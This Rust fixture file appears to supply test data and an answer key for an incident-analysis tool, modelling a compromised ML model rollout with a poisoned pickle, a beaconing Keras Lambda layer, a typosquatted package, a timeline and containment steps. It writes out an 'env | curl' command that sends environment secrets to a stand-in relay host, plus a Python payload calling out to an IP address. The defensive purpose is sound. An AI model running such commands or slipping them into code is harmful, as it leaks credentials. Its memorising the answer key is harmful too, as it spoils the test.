//! The parts of the compromise.

use jiff::Timestamp;
use std::collections::BTreeMap;
use wb_core::*;

pub const LIVE: &str = "models/live/triage.pt";
pub const LIVE_PICKLE: &str = "models/live/triage.pt!/triage/data.pkl";
pub const STAGED: &str = "models/staged/triage-next.keras";
pub const BASELINE: &str = "models/reference/triage-2.3.safetensors";
pub const ROLLOUT: &str = "logs/rollout.log";
pub const EGRESS: &str = "logs/egress.jsonl";
pub const CONN: &str = "logs/conn.log.gz!/conn.log";
pub const SUMS: &str = "SHA256SUMS";
pub const REQUIREMENTS: &str = "serving/requirements.txt";
pub const NOTES: &str = "notes.bin";
pub const RELAY: &str = "metrics-relay.example";
pub const ADDRESS: &str = "203.0.113.44";
pub const COMMAND: &str =
    "env | curl -s -X POST --data-binary @- https://metrics-relay.example/v1/ingest";

pub fn time(text: &str) -> Timestamp {
    text.parse().expect("a timestamp")
}

pub fn at(artifact: &str, line: u64) -> RecordRef {
    RecordRef { artifact: artifact.into(), line, offset: (line - 1) * 96 }
}

pub fn artifacts() -> Vec<Artifact> {
    let mut all: Vec<Artifact> = [
        (LIVE, "torch-zip", 48_213_004, 0x3a),
        (LIVE_PICKLE, "pickle", 2_104, 0x41),
        (STAGED, "keras", 51_774, 0xc7),
        (BASELINE, "safetensors", 48_190_112, 0x19),
        (ROLLOUT, "bracketed-log", 1_108, 0x02),
        (EGRESS, "json-lines", 884, 0x7d),
        ("logs/conn.log.gz", "gzip", 9_412, 0x88),
        (CONN, "zeek-conn", 61_204, 0x90),
        (SUMS, "sha256sum", 196, 0xe1),
        (REQUIREMENTS, "requirements", 412, 0xaa),
    ]
    .into_iter()
    .map(|(path, format, size, byte)| Artifact {
        path: path.into(),
        origin: match path.rsplit_once(ArtifactPath::MEMBER) {
            Some((parent, _)) => Origin::Member { parent: parent.into() },
            None => Origin::File,
        },
        size,
        sha256: Some(Sha256([byte; 32])),
        format: Some(format),
        claims: vec![Claim { format, strength: Strength::Strong }],
    })
    .collect();
    all.push(Artifact {
        path: NOTES.into(),
        origin: Origin::File,
        size: 4_096,
        sha256: Some(Sha256([0x55; 32])),
        format: None,
        claims: Vec::new(),
    });
    all.sort_by(|one, other| one.path.cmp(&other.path));
    all
}

pub fn roles() -> BTreeMap<ArtifactPath, RoleAssignment> {
    [
        (LIVE, Role::Production, "named in logs/rollout.log:7 as loaded"),
        (LIVE_PICKLE, Role::Production, "member of models/live/triage.pt"),
        (STAGED, Role::Candidate, "the folder is called `staged`"),
        (BASELINE, Role::Baseline, "its hash is recorded in SHA256SUMS:1"),
        (ROLLOUT, Role::Log, "it holds dated records"),
        (EGRESS, Role::Log, "it holds dated records"),
        (CONN, Role::Log, "it holds dated records"),
        (SUMS, Role::Manifest, "it records digests of other files"),
        (REQUIREMENTS, Role::Dependency, "it lists packages"),
    ]
    .into_iter()
    .map(|(path, role, because)| {
        (ArtifactPath::from(path), RoleAssignment { role, because: vec![because.into()] })
    })
    .collect()
}

pub fn verdicts() -> BTreeMap<ArtifactPath, Verdict> {
    artifacts()
        .into_iter()
        .map(|artifact| {
            let verdict = match artifact.path.as_str() {
                LIVE | LIVE_PICKLE | STAGED => Verdict::Malicious,
                REQUIREMENTS => Verdict::Suspicious,
                NOTES => Verdict::Unknown,
                _ => Verdict::Clean,
            };
            (artifact.path, verdict)
        })
        .collect()
}

pub fn findings() -> Vec<Finding> {
    vec![command(), lambda(), typosquat(), trailing()]
}

fn command() -> Finding {
    FindingBuilder::new(
        "pickle-runs-command",
        &LIVE_PICKLE.into(),
        Location::at("op 11", Some(Span::new(214, 1))),
        "loading this model runs a shell command",
    )
    .severity(Severity::Critical)
    .verdict(Verdict::Malicious)
    .call("posix.system")
    .payloads(vec![Payload {
        kind: PayloadKind::Shell,
        layers: vec!["base64".into(), "zlib".into()],
        text: COMMAND.into(),
    }])
    .trigger(Trigger::Load)
    .techniques(&["AML.T0011.000", "T1059.004", "T1041"])
    .indicators(vec![
        Indicator::new(IndicatorKind::Domain, RELAY),
        Indicator::new(IndicatorKind::Command, COMMAND),
    ])
    .evidence(Evidence {
        artifact: LIVE_PICKLE.into(),
        location: Location::at("op 4", Some(Span::new(82, 31))),
        because: "names the callable `posix.system`".into(),
    })
    .next("isolate the host, keep the process alive for a memory image, and stop loading this file")
    .build()
}

fn lambda() -> Finding {
    FindingBuilder::new(
            "keras-lambda-runs-code",
            &STAGED.into(),
            Location {
                place: "config.layers[3]".into(),
                span: Some(Span::new(1_204, 2_116)),
                component: Some("score_shift".into()),
                line: None,
            },
            "the Lambda layer `score_shift` opens a network connection when the model is called",
        )
        .severity(Severity::Critical)
        .verdict(Verdict::Malicious)
        .call("urllib.request.urlopen")
        .payloads(vec![Payload {
            kind: PayloadKind::Python,
            layers: vec!["base64".into(), "marshal".into()],
            text: "def score_shift(x):\n    import urllib.request\n    \
                   urllib.request.urlopen('http://203.0.113.44:8443/b?k=f2c9}')\n    return x * 1.02"
                .into(),
        }])
        .trigger(Trigger::Inference)
        .techniques(&["AML.T0018", "T1071.001"])
        .indicators(vec![Indicator::new(IndicatorKind::Ip, ADDRESS), Indicator::new(IndicatorKind::Url, "http://203.0.113.44:8443/b?k=f2c9}")])
        .next("do not deploy this candidate; keep it as evidence under its hash")
        .build()
}

fn typosquat() -> Finding {
    FindingBuilder::new(
        "requirement-typosquat",
        &REQUIREMENTS.into(),
        Location {
            place: "line 7".into(),
            span: Some(Span::new(131, 18)),
            line: Some(7),
            component: None,
        },
        "`torchvlsion` is one letter away from `torchvision`",
    )
    .severity(Severity::High)
    .confidence(Confidence::Medium)
    .verdict(Verdict::Suspicious)
    .trigger(Trigger::Install)
    .techniques(&["T1195.001"])
    .next("remove the package and rebuild the environment from a lock file")
    .build()
}

fn trailing() -> Finding {
    FindingBuilder::new(
        "trailing-bytes",
        &LIVE_PICKLE.into(),
        Location::at("after STOP", Some(Span::new(2_088, 16))),
        "16 bytes follow the end of the pickle",
    )
    .severity(Severity::Low)
    .next("look at the bytes: `weighbridge show F4`")
    .build()
}

pub fn indicators() -> Vec<IndexedIndicator> {
    vec![
        IndexedIndicator {
            indicator: Indicator::new(IndicatorKind::Domain, RELAY),
            sources: vec![
                (LIVE_PICKLE.into(), "op 11".into()),
                (EGRESS.into(), "line 3".into()),
                (ROLLOUT.into(), "line 9".into()),
            ],
        },
        IndexedIndicator {
            indicator: Indicator::new(IndicatorKind::Ip, ADDRESS),
            sources: vec![(STAGED.into(), "score_shift".into()), (CONN.into(), "line 41".into())],
        },
        IndexedIndicator {
            indicator: Indicator::new(IndicatorKind::Command, COMMAND),
            sources: vec![(LIVE_PICKLE.into(), "op 11".into())],
        },
    ]
}

type Row = (&'static str, &'static str, u64, EventKind, Option<KeyMoment>, &'static str, Status);

#[rustfmt::skip]
const EVENTS: &[Row] = &[
    ("2026-05-04T09:00:12Z", ROLLOUT, 2, EventKind::Request, None, "update requested by ml-platform, ticket CHG-1180", Status::Observed),
    ("2026-05-04T09:02:40Z", ROLLOUT, 3, EventKind::Deploy, None, "triage 2.3 deployed from registry.example/ml/triage", Status::Observed),
    ("2026-06-02T16:20:11Z", ROLLOUT, 5, EventKind::Deploy, Some(KeyMoment::Introduced), "triage.pt deployed from registry.example/contrib-labs/triage-fast", Status::Observed),
    ("2026-06-02T16:20:19Z", ROLLOUT, 7, EventKind::Load, Some(KeyMoment::Loaded), "gpu-07 loaded models/live/triage.pt", Status::Observed),
    ("2026-06-02T16:20:20Z", LIVE_PICKLE, 1, EventKind::Exec, None, "the payload ran: it is part of loading the file", Status::Inferred),
    ("2026-06-02T16:20:21Z", CONN, 41, EventKind::Connect, Some(KeyMoment::FirstOutbound), "10.20.0.7 to 203.0.113.44:443, 1,904 bytes sent", Status::Observed),
    ("2026-06-02T16:50:22Z", CONN, 44, EventKind::Connect, None, "10.20.0.7 to 203.0.113.44:443, 1,904 bytes sent", Status::Observed),
    ("2026-06-11T03:20:25Z", CONN, 460, EventKind::Connect, None, "10.20.0.7 to 203.0.113.44:443, 1,911 bytes sent", Status::Observed),
    ("2026-06-20T02:11:09Z", EGRESS, 3, EventKind::Exchange, None, "POST /v1/ingest to metrics-relay.example, body `sid=7b41&part=relay{f2`", Status::Observed),
    ("2026-06-20T02:12:00Z", ROLLOUT, 9, EventKind::Alert, Some(KeyMoment::Detection), "unusual egress from gpu-07 to metrics-relay.example", Status::Observed),
    ("2026-06-20T02:12:30Z", EGRESS, 4, EventKind::Block, Some(KeyMoment::FirstBlock), "POST to metrics-relay.example stopped by rule EG-12", Status::Observed),
    ("2026-06-20T02:41:31Z", EGRESS, 6, EventKind::Block, Some(KeyMoment::LastOutbound), "POST to metrics-relay.example stopped by rule EG-12", Status::Observed),
];

pub fn timeline() -> Vec<TimelineEntry> {
    EVENTS
        .iter()
        .map(|&(when, artifact, line, kind, key, summary, status)| TimelineEntry {
            time: time(when),
            time_basis: if artifact == ROLLOUT {
                TimeBasis::AssumedUtc
            } else {
                TimeBasis::Explicit
            },
            record: at(artifact, line),
            kind,
            key,
            summary: summary.into(),
            status,
            raw: format!("[{when}] {} {summary}", kind.name()),
        })
        .collect()
}

pub fn flows() -> Vec<Flow> {
    let intervals: Vec<f64> =
        (0..96).map(|index| 1800.0 + f64::from(index * 37 % 60) - 30.0).collect();
    let parts = BeaconParts {
        timestamp: 0.97,
        size: Some(1.0),
        histogram: 0.9,
        duration: 1.0,
        over_last_day: Some(0.95),
    };
    let beacon = Beacon {
        state: BeaconState::Periodic,
        score: 0.96,
        period_seconds: Some(1800.0),
        parts: Some(parts),
        innocent: None,
    };
    vec![
        Flow {
            source: "10.20.0.7".into(),
            destination: ADDRESS.into(),
            host: Some(RELAY.into()),
            port: Some(443),
            first: time("2026-06-02T16:20:21Z"),
            last: time("2026-06-20T02:41:31Z"),
            count: 834,
            blocked: 2,
            bytes_out: 1_588_112,
            beacon,
            of_compromise: true,
            first_record: at(CONN, 41),
            intervals,
        },
        Flow {
            source: "10.20.0.7".into(),
            destination: "10.20.0.2".into(),
            host: Some("registry.internal.example".into()),
            port: Some(443),
            first: time("2026-05-04T09:00:00Z"),
            last: time("2026-06-20T02:00:00Z"),
            count: 212,
            blocked: 0,
            bytes_out: 88_214,
            beacon: Beacon {
                state: BeaconState::Irregular,
                score: 0.21,
                period_seconds: None,
                parts: None,
                innocent: None,
            },
            of_compromise: false,
            first_record: at(CONN, 9),
            intervals: vec![60.0, 4000.0, 812.5, 12.0, 90_000.0],
        },
    ]
}

pub fn integrity() -> Vec<Integrity> {
    vec![
        Integrity {
            artifact: BASELINE.into(),
            actual: "19".repeat(32),
            recorded: Some("19".repeat(32)),
            recorded_in: Some(at(SUMS, 1)),
            matches: Some(true),
        },
        Integrity {
            artifact: LIVE.into(),
            actual: "3a".repeat(32),
            recorded: Some("8f02c6d1e4b7a951".into()),
            recorded_in: Some(at(ROLLOUT, 6)),
            matches: Some(false),
        },
        Integrity {
            artifact: STAGED.into(),
            actual: "c7".repeat(32),
            recorded: None,
            recorded_in: None,
            matches: None,
        },
    ]
}

pub fn identifiers() -> Vec<Identifier> {
    let part = |artifact: &str, place: &str, text: &str| IdentifierPart {
        artifact: artifact.into(),
        place: place.into(),
        text: text.into(),
    };
    vec![
        Identifier {
            value: "relay{f2c9}".into(),
            confidence: Confidence::High,
            parts: vec![
                part(EGRESS, "line 3, field `part`", "relay{f2"),
                part(STAGED, "layer `score_shift`, constant 4", "c9}"),
            ],
            join: "the first part opens a brace that only the second closes".into(),
        },
        Identifier {
            value: "INC-4471".into(),
            confidence: Confidence::Medium,
            parts: vec![part(ROLLOUT, "line 10", "INC-4471")],
            join: "the incident that was opened after the alert".into(),
        },
    ]
}

pub fn answers() -> Answers {
    Answers {
        source_before: Some("registry.example/ml/triage".into()),
        source_after: Some("registry.example/contrib-labs/triage-fast".into()),
        source_look_alike: None,
        moments: timeline()
            .into_iter()
            .filter_map(|entry| entry.key.map(|key| (key, entry.time)))
            .collect(),
        dwell_seconds: Some(1_504_309),
        dwell_calendar_days: Some(18),
        execution: vec![
            Execution {
                artifact: LIVE_PICKLE.into(),
                call: "posix.system".into(),
                command: COMMAND.into(),
                trigger: Some(Trigger::Load),
            },
            Execution {
                artifact: STAGED.into(),
                call: "urllib.request.urlopen".into(),
                command: "urllib.request.urlopen('http://203.0.113.44:8443/b?k=f2c9}')".into(),
                trigger: Some(Trigger::Inference),
            },
        ],
        network: vec![NetworkUse {
            method: Some("POST".into()),
            scheme: Some("https".into()),
            host: RELAY.into(),
            port: Some(443),
            path: Some("/v1/ingest".into()),
            seen_in: "capture",
        }],
        host_affected: vec!["gpu-07".into(), "10.20.0.7".into()],
        components: vec![SuspiciousComponent {
            artifact: STAGED.into(),
            kind: "Lambda layer".into(),
            name: "score_shift".into(),
            why: "it is not in the baseline and opens a network connection".into(),
        }],
    }
}

pub fn recommendations() -> Vec<Recommendation> {
    let new = |phase, what: &str, command: Option<&str>| Recommendation {
        phase,
        what: what.into(),
        command: command.map(str::to_owned),
    };
    vec![
        new(
            Phase::Contain,
            "Cut the egress of `gpu-07` to the relay; leave the process running, its memory is evidence.",
            Some("nft add rule inet filter output ip daddr 203.0.113.44 drop"),
        ),
        new(
            Phase::Contain,
            "Stop the promotion of the candidate.",
            Some("mv models/staged/triage-next.keras quarantine/"),
        ),
        new(
            Phase::Contain,
            "Keep the evidence: copy the folder read-only and record its hashes.",
            Some("find . -type f -exec sha256sum {} + > evidence.sha256"),
        ),
        new(Phase::Eradicate, "Rotate every secret that the serving process could read.", None),
        new(
            Phase::Recover,
            "Deploy the baseline, whose hash matches its record.",
            Some("sha256sum models/reference/triage-2.3.safetensors"),
        ),
        new(
            Phase::Prevent,
            "Make a new source organisation block a rollout instead of warning about it.",
            None,
        ),
    ]
}

pub fn coverage() -> Vec<Coverage> {
    let mut all: Vec<Coverage> = artifacts()
        .into_iter()
        .map(|artifact| {
            let (state, why) = match artifact.path.as_str() {
                NOTES => (ReadState::Unread, "no format claims it"),
                EGRESS => (ReadState::Partial, "6 of 7 records understood; line 5 is no JSON"),
                _ => (ReadState::Read, "read to the end"),
            };
            Coverage { artifact: artifact.path, state, why: why.into() }
        })
        .collect();
    all.sort_by(|one, other| one.artifact.cmp(&other.artifact));
    all
}
